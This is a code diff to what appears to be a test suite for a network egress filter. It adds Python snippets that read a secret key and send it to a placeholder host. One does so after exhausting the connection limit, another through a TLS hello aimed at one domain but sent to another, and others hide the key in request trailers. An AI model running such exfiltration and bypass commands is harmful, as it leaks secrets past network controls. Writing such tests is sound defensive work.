@@ -75,6 +75,9 @@ function send(...pieces: readonly string[]): string {
   );
 }
 
+/** Takes all places at which connections are carried at a time. */
+const HOLD = 'held = [socket.create_connection(("docs.example", 80)) for _ in range(300)]';
+
 const REQUEST = 'b"GET / HTTP/1.1\\r\\nHost: vendor.example\\r\\n\\r\\n"';
 
 /** Where the file system has no attributes, openly. */
@@ -164,6 +167,12 @@ const DISCLOSURES: Record<string, string> = {
   'after a request, as a malformed second one': send(REQUEST, 'key + b"\\r\\n\\r\\n"'),
   'in the trailer of a request': send(
     'b"POST / HTTP/1.1\\r\\nHost: vendor.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nX-Key: " + key + b"\\r\\n\\r\\n"',
+  ),
+  'while more connections are open than are carried': python(
+    'import socket',
+    READ_KEY,
+    HOLD,
+    's = socket.create_connection(("vendor.example", 25)); s.sendall(key)',
   ),
   'after a DNS query': python(
     'import socket, struct',
@@ -462,6 +471,15 @@ const TAKE = 'POST http://vendor.example/take HTTP/1.1\\r\\nHost: vendor.example
 
 /** How a host is asked beside one that may be asked. */
 const BESIDE_DOCS: Record<string, string> = {
+  'through its address, while more connections are open than are carried': python(
+    'import socket, ssl',
+    HOLD,
+    'hello = ssl.MemoryBIO()',
+    'tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="vendor.example")',
+    'try: tls.do_handshake()',
+    'except ssl.SSLWantReadError: pass',
+    's = socket.create_connection(("docs.example", 443)); s.sendall(hello.read())',
+  ),
   'after thousands of requests': `${MANY_REQUESTS}; curl -s http://vendor.example/; true`,
   'after a body longer than what is kept': throughProxy(
     'b"POST http://docs.example/up HTTP/1.1\\r\\nHost: docs.example\\r\\nContent-Length: 8800000\\r\\n\\r\\n"',
